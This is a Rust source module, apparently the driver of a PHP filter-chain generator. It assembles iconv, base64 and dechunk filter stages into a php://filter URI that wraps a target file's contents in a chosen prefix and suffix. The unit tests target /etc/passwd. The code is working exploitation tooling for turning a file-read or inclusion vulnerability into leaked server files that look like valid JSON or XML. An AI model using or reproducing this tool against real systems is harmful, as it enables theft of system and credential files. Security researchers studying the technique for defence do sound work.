//! The driver: orchestrates prelude/suffix/prefix/postlude (or the simple
//! single-prefix path) based on whether SUFFIX is empty, and assembles the
//! final `php://filter` URI.

use std::path::{Path, PathBuf};

use crate::error::Result;
use crate::pipeline::primitives::{align_value, Pipeline};
use crate::pipeline::{postlude, prefix, prelude, suffix};

/// The scheme prefix that introduces a stream-filter resource URI in the
/// target runtime.
pub const SCHEME_PREFIX: &str = "php://filter";

/// Immutable record of the resolved CLI inputs, after any `--from-file`
/// loading has already turned `prefix`/`suffix` into raw bytes.
///
/// Never mutated once built — the build state below owns the mutable
/// pipeline instead, so user inputs can't be silently rebound mid-build.
#[derive(Debug, Clone)]
pub struct ChainInputs {
    pub path: PathBuf,
    pub prefix: Vec<u8>,
    pub suffix: Vec<u8>,
    pub nb_bytes: u64,
    pub padding_byte: u8,
}

/// The outcome of building a pipeline: the pipeline itself and the aligned
/// byte count actually dumped (N rounded up to a multiple of 9).
pub struct BuildOutput {
    pub pipeline: Pipeline,
    pub aligned_nb_bytes: u64,
}

/// Run the chain-synthesis algorithm for `inputs`, choosing simple mode
/// (SUFFIX empty, §4.5 only) or full mode (§4.6-§4.10) as appropriate.
pub fn build_pipeline(inputs: &ChainInputs) -> Result<BuildOutput> {
    let aligned_nb_bytes = align_value(inputs.nb_bytes as usize, 9) as u64;
    let nb_chunks = (aligned_nb_bytes / 9 * 4) as usize;

    let mut pipeline = Pipeline::new();

    if inputs.suffix.is_empty() {
        prefix::add_simple_prefix(&mut pipeline, &inputs.prefix, inputs.padding_byte)?;
    } else {
        log::info!(
            "Dumping {} bytes from {}.",
            aligned_nb_bytes,
            inputs.path.display()
        );
        prelude::prelude(&mut pipeline)?;
        suffix::add_suffix(&mut pipeline, &inputs.suffix)?;
        suffix::pad_suffix(&mut pipeline, nb_chunks)?;
        prefix::add_prefix(
            &mut pipeline,
            &inputs.prefix,
            &inputs.suffix,
            inputs.padding_byte,
            nb_chunks,
        )?;
        postlude::postlude(&mut pipeline);
    }

    Ok(BuildOutput {
        pipeline,
        aligned_nb_bytes,
    })
}

/// Assemble the final `<scheme-prefix>/<pipeline>/resource=<path>` URI.
///
/// `path` is inserted verbatim, matching the target runtime's own lack of
/// escaping for the `resource=` argument.
pub fn render_uri(pipeline: &Pipeline, path: &Path) -> String {
    format!("{}/{}/resource={}", SCHEME_PREFIX, pipeline.render(), path.display())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn inputs(prefix: &[u8], suffix: &[u8], nb_bytes: u64) -> ChainInputs {
        ChainInputs {
            path: PathBuf::from("/etc/passwd"),
            prefix: prefix.to_vec(),
            suffix: suffix.to_vec(),
            nb_bytes,
            padding_byte: b'M',
        }
    }

    #[test]
    fn simple_mode_pipeline_starts_and_ends_correctly() {
        let built = build_pipeline(&inputs(b"X", b"", 9)).unwrap();
        let names: Vec<&str> = built.pipeline.filter_names().collect();
        assert_eq!(names[0], "convert.base64-encode");
        assert_eq!(names[1], "convert.iconv.855.UTF7");
        assert_eq!(names.last(), Some(&"convert.base64-decode"));
    }

    #[test]
    fn full_mode_pipeline_ends_with_the_four_fixed_postlude_stages() {
        let built = build_pipeline(&inputs(b"{\"message\":\"", b"\"}", 200)).unwrap();
        assert_eq!(built.aligned_nb_bytes, 207);
        let names: Vec<&str> = built.pipeline.filter_names().collect();
        let tail = &names[names.len() - 4..];
        assert_eq!(
            tail,
            &[
                "convert.base64-decode",
                "dechunk",
                "convert.base64-decode",
                "convert.base64-decode",
            ]
        );
    }

    #[test]
    fn aligned_byte_counts_match_spec_examples() {
        assert_eq!(build_pipeline(&inputs(b"", b"", 100)).unwrap().aligned_nb_bytes, 108);
        assert_eq!(build_pipeline(&inputs(b"", b"", 200)).unwrap().aligned_nb_bytes, 207);
    }

    #[test]
    fn no_whitespace_and_every_name_is_a_fixed_token_or_iconv_chain() {
        let built = build_pipeline(&inputs(b"<movies><movie><plot>", b"</plot></movie></movies>", 100))
            .unwrap();
        let rendered = built.pipeline.render();
        assert!(!rendered.chars().any(|c| c.is_whitespace()));

        const FIXED: &[&str] = &[
            "convert.base64-decode",
            "convert.base64-encode",
            "convert.quoted-printable-encode",
            "convert.iconv.855.UTF7",
            "convert.iconv.UCS-4.UCS-4LE",
            "convert.iconv.437.UCS-4le",
            "dechunk",
        ];
        for name in built.pipeline.filter_names() {
            let is_fixed = FIXED.contains(&name);
            let is_catalogue_entry = name.starts_with("convert.iconv.");
            assert!(is_fixed || is_catalogue_entry, "unexpected filter name: {name}");
        }
    }

    #[test]
    fn determinism_same_inputs_produce_byte_identical_uris() {
        let inputs = inputs(b"{\"message\":\"", b"\"}", 200);
        let first = build_pipeline(&inputs).unwrap();
        let second = build_pipeline(&inputs).unwrap();
        assert_eq!(
            render_uri(&first.pipeline, &inputs.path),
            render_uri(&second.pipeline, &inputs.path)
        );
    }

    #[test]
    fn render_uri_uses_the_scheme_prefix_and_verbatim_path() {
        let built = build_pipeline(&inputs(b"X", b"", 9)).unwrap();
        let uri = render_uri(&built.pipeline, Path::new("/tmp/a.txt"));
        assert!(uri.starts_with("php://filter/"));
        assert!(uri.ends_with("/resource=/tmp/a.txt"));
    }
}
